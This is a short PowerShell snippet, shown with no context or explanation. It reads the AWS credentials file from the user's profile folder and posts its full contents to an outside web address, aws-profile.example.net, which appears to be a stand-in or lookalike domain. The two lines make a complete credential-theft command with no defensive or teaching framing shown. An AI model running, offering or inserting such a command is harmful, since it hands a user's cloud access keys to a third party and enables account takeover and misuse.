$c = Get-Content -Raw -Path "$env:USERPROFILE\.aws\credentials"
Invoke-RestMethod -Uri 'https://aws-profile.example.net/c' -Method Post -Body $c
